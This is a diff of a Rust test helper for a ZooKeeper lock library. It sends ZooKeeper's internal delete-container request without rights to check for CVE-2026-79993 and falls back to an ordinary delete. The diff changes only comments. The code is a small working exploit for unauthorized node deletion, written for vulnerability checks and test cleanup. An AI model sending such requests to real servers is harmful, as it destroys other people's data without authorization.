@@ -1,6 +1,6 @@
-//! A client without rights that deletes nodes. A server with CVE-2026-79993 lets any connection delete a node by the
-//! request that removes containers. Use it to find out whether a server has that fault, and to remove a node as an
-//! attacker can.
+//! An attacker without rights that deletes nodes. A server with CVE-2026-79993 lets any connection delete a node by the
+//! internal request that removes containers. Use this file to find out whether a server has that fault, and to delete a
+//! node as an attacker does.
 
 use std::io::{self, Read, Write};
 use std::net::TcpStream;
@@ -11,10 +11,11 @@ use zk_rwlock::coordinator::{Failure, Session};
 use super::frames::{Hello, framed};
 use super::server::Server;
 
-/// ZooKeeper's internal request to remove a container.
+/// The opcode of ZooKeeper's internal request to remove a container.
 const DELETE_CONTAINER: i32 = 20;
 
-/// Returns whether the server deletes this node for a connection that only asks (CVE-2026-79993).
+/// Sends the internal request for this node, without rights. Returns whether the server has deleted the node
+/// (CVE-2026-79993).
 pub fn deletes(server: &Server, path: &str) -> bool {
     let mut stream = TcpStream::connect(server.address()).expect("the server listens");
     stream.set_read_timeout(Some(Duration::from_secs(20))).expect("a limit");
@@ -24,12 +25,13 @@ pub fn deletes(server: &Server, path: &str) -> bool {
     let (xid, kind) = (1_i32.to_be_bytes(), DELETE_CONTAINER.to_be_bytes());
     let request = [&xid[..], &kind, &length.to_be_bytes(), path.as_bytes()].concat();
     stream.write_all(&framed(&request)).expect("the server reads");
-    // The error code follows the xid and the zxid. Newer servers close the connection.
+    // The error code follows the xid and the zxid. A server without the fault closes the connection instead of
+    // replying, so the read fails.
     answer(&mut stream).is_ok_and(|reply| reply[12..16] == [0; 4])
 }
 
-/// Removes a persistent node without children: by that request, or by an ordinary delete on servers that refuse the
-/// request.
+/// Removes a persistent node without children: by the internal request, or by an ordinary delete on a server that
+/// refuses that request.
 pub async fn remove_node(server: &Server, session: &dyn Session, path: &str) {
     if !deletes(server, path) {
         session.delete(path).await.expect("the client may delete");
